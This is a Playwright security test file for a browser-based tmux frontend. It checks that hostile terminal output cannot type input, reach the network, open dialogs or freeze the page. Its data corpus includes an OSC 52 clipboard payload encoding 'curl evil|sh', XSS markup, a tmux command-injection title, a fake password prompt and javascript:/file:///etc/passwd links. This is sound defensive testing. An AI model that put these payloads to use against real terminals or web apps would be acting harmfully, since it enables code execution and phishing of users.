import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures/test.ts';
import type { Workbench } from './pages/workbench.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const EVIL = base64('curl evil|sh\n');

/** What hostile programs print, by case of the security tests. Bounded, so that tmux takes it in seconds. */
const CORPUS: readonly (readonly [string, string])[] = [
  ['G1', '\x1b[c\x1b[0c\x1b[>c\x1b[=c\x1b[5n\x1b[6n\x1b[?6n\x1b[>q\x1bZ\x05'],
  ['G3', '\x1b[?25$p\x1b[4$p\x1bP$qm\x1b\\\x1bP+q544e\x1b\\\x1b[?u\x1b[x'],
  ['G5', '\x1b]10;?\x07\x1b]11;?\x1b\\\x1b]12;?\x07\x1b]4;0;?\x07\x1b[14t\x1b[18t\x1b[21t'],
  ['G7', `\x1b]52;c;${EVIL}\x07\x1b]52;c;?\x07\x1bPtmux;\x1b\x1b]52;c;${EVIL}\x07\x1b\\`],
  [
    'G11',
    `https://x.invalid/'"><img src=https://x.invalid/i onerror=alert(1)><script>alert(1)</script>`,
  ],
  ['G13', '\x1bk#(touch /tmp/tmuxy-hostile)\x1b\\\x1b]2;<img src=x onerror=alert(1)>\u202e\x1b\\'],
  ['G15', 'a\x1b[1000000000b\x1b[1000000000L\x1b[1000000000M\x1b[1000000000Z\x1b[1000000000I'],
  ['G17', '\x1b[1000000000S\x1b[1000000000T\x1b[1000000000@\x1b[1000000000P\x1b[1000000000X'],
  ['G19', Array.from({ length: 20_000 }, (_, i) => `\x1b]8;;http://x/${i}\x1b\\a`).join('')],
  [
    'G21',
    `\x1b]0;${'A'.repeat(2_000_000)}\x1b\\\x1bP${'B'.repeat(2_000_000)}\x1b\\\x1b_${'C'.repeat(500_000)}\x1b\\`,
  ],
  [
    'G23',
    `\x1bPq"1;1;30000;30000#0;2;0;0;0${'~'.repeat(10_000)}\x1b\\\x1b]1337;File=size=9000000000;inline=1:AAAA\x07\x1b_Ga=T,f=100,m=1;AAAA\x1b\\`,
  ],
  ['G27', '\x1b[!p\x1b(0\x0eqqq\x1b(B\x0f\x1bc'],
  ['G29', '\x1b[2J\x1b[HYour session expired. Enter your password:\r\n'],
  ['G31', '\u009b1000000000b\u009d52;c;?\u009c\u0090$qm\u009c'],
  ['G33', 'data: x\n\nevent: connection-info\ndata: {"readOnly":false}\n\n'],
  ['work', '\x1b[300L\x1b[300M\x1b[300S\x1b[300T\x1b[3J\x1b[?1049h\x1b[?1049l\x1bc'.repeat(20_000)],
  ['cells', `a${'\u0301'.repeat(50_000)}${'👨\u200d'.repeat(5_000)}`],
];

interface Watch {
  /** POSTs of the page that carry input, and requests to anywhere but our server. */
  readonly typed: string[];
  readonly elsewhere: string[];
  /** Dialogs, errors, reports of the content security policy, popups. */
  readonly alarms: string[];
}

function watch(page: Page, url: string): Watch {
  const seen: Watch = { typed: [], elsewhere: [], alarms: [] };
  page.on('request', (request) => {
    if (!request.url().startsWith(url)) seen.elsewhere.push(request.url());
    const body = request.postData() ?? '';
    if (/"cmd":"(?:send-input|paste)"/.test(body)) seen.typed.push(body);
  });
  page.on('dialog', (dialog) => {
    seen.alarms.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => seen.alarms.push(`error: ${error.message}`));
  page.on('popup', (popup) => seen.alarms.push(`popup: ${popup.url()}`));
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) seen.alarms.push(message.text());
  });
  return seen;
}

/** The page still draws, and what is typed still comes back. */
async function isResponsive(workbench: Workbench): Promise<void> {
  await workbench.page.evaluate(
    () => new Promise((resolve) => requestAnimationFrame(() => resolve(null))),
  );
  await expect(workbench.root).toBeVisible();
}

test.describe('hostile output', () => {
  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

  test('[G1] [G3] [G5] [G7] [G11] [G13] [G15] [G17] [G19] [G21] [G23] [G27] [G29] [G31] [G33] from a program, each alone: no input, request, dialog or copy, and the page goes on', async ({
    workbench,
    session,
    installation,
  }) => {
    test.setTimeout(180_000);
    const { page } = workbench;
    await page.evaluate(() => navigator.clipboard.writeText('before'));
    await session.tmux('set-option', '-w', 'allow-rename', 'on');
    await session.tmux('split-window', '-h', '-d');
    await expect(workbench.panes).toHaveCount(2);
    const pane = workbench.pane(session.pane);
    const seen = watch(page, installation.server.url);
    for (const [name, output] of CORPUS) {
      const file = join(installation.tmux.dir, `${session.name}-${name}`);
      await writeFile(file, output);
      // Typed from outside: nothing that the page sends may be its own doing.
      await session.tmux(
        'send-keys',
        `clear; cat ${file}; reset -I; clear; echo end-of-${name}`,
        'Enter',
      );
      await expect
        .poll(async () => (await pane.scrollback()).join('\n'), { timeout: 60_000, message: name })
        // What tmux answered a question may be echoed in front of it, whenever that gets there.
        .toMatch(new RegExp(`(?<!echo )end-of-${name}$`, 'm'));
      await isResponsive(workbench);
    }
    expect(seen).toEqual({ typed: [], elsewhere: [], alarms: [] });
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('before');
    expect(await page.title()).not.toMatch(/[\u202a-\u202e]/);
    await expect(page.getByTestId('clipboard-bar')).toContainText('curl evil|sh␊');
    const other = (await session.tmux('list-panes', '-F', '#{pane_id}')).trim().split('\n');
    const second = workbench.pane(other.find((id) => id !== session.pane) as typeof session.pane);
    await second.focus();
    await second.run('echo the other ""pane');
    await second.shows(/^the other pane$/m);
    await pane.focus();
    await pane.run('echo still""here');
    await pane.shows(/^stillhere$/m);
  });

  test('[G1] [G3] [G5] [G7] [G11] [G23] [G27] [G31] straight into xterm types nothing and does not hold it up', async ({
    workbench,
    session,
    installation,
  }) => {
    const { page } = workbench;
    const seen = watch(page, installation.server.url);
    const longest = await page.evaluate(
      async ([id, corpus]) => {
        const terminal = window.tmuxy?.terminals.get(id);
        if (terminal === undefined) throw new Error('no terminal');
        let longestMs = 0;
        let last = performance.now();
        let isOver = false;
        const frame = (): void => {
          longestMs = Math.max(longestMs, performance.now() - last);
          last = performance.now();
          if (!isOver) requestAnimationFrame(frame);
        };
        frame();
        for (const text of corpus) {
          await new Promise<void>((resolve) => terminal.write(text, resolve));
        }
        isOver = true;
        return longestMs;
      },
      [
        session.pane,
        CORPUS.filter(
          ([name]) => !['G15', 'G17', 'G19', 'G21', 'work', 'cells'].includes(name),
        ).map(([, text]) => text),
      ] as const,
    );
    expect(longest).toBeLessThan(2_000);
    expect(seen).toEqual({ typed: [], elsewhere: [], alarms: [] });
    await isResponsive(workbench);
  });

  test('[G9] links of other kinds lead nowhere, and web links are shown before they open', async ({
    workbench,
    session,
    installation,
  }) => {
    const { page } = workbench;
    const pane = workbench.pane(session.pane);
    const targets = [
      'javascript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      'file:///etc/passwd',
      'blob:https://x/1',
      'ssh://host',
    ];
    // tmux 3.3 passes no links on by itself, so they are written where its output arrives.
    const draw = async (): Promise<void> => {
      await page.evaluate(
        ([id, uris]) => {
          const lines = uris.map((uri) => `\x1b]8;;${uri}\x1b\\CLICK\x1b]8;;\x1b\\\r\n`);
          window.tmuxy?.terminals.get(id)?.write(`\x1bc${lines.join('')}`);
        },
        [session.pane, [...targets, 'https://example.org/real?target']] as const,
      );
      await pane.shows(/^CLICK$/m);
    };
    const click = async (row: number): Promise<void> => {
      const { x, y } = await pane.cell(2, row);
      // xterm looks for links when the mouse comes to another cell.
      await page.mouse.move(x + 300, y + 200);
      await page.mouse.move(x, y, { steps: 3 });
      await page.mouse.click(x, y);
    };
    const seen = watch(page, installation.server.url);
    // A picture of the pane in its first size may still come and take the place of what was drawn.
    await expect(async () => {
      await draw();
      await click(targets.length);
      const shown = page.getByTestId('link-dialog');
      await expect(shown).toContainText('https://example.org/real?target', { timeout: 1_000 });
    }).toPass();
    await page.getByRole('button', { name: 'Cancel' }).click();
    await draw();
    for (const [row] of targets.entries()) {
      await click(row);
      await expect(page.getByRole('dialog')).toHaveCount(0);
    }
    expect([seen.alarms, seen.elsewhere]).toEqual([[], []]);
  });

  test('[G29] asks for no password inside a pane, and the chrome stays outside', async ({
    workbench,
    session,
  }) => {
    const pane = workbench.pane(session.pane);
    await session.tmux(
      'send-keys',
      String.raw`printf '\033[2J\033[HSession expired. Password:'`,
      'Enter',
    );
    await pane.shows('Session expired. Password:');
    await expect(workbench.page.locator('input[type=password]')).toHaveCount(0);
    await expect(pane.box.locator('input')).toHaveCount(0);
    await expect(workbench.statusBar).toBeVisible();
    await expect(workbench.statusBar).toContainText('Live');
  });

  test('[G27] a terminal that a program broke can be reset', async ({ workbench, session }) => {
    const pane = workbench.pane(session.pane);
    await session.tmux('send-keys', String.raw`printf '\033(0'; echo lqqk`, 'Enter');
    await pane.shows('┌──┐');
    await pane.box.click({ button: 'right' });
    await workbench.menu.getByText('Reset terminal').click();
    await pane.run('echo lqqk again');
    await pane.shows(/^lqqk again$/m);
  });
});
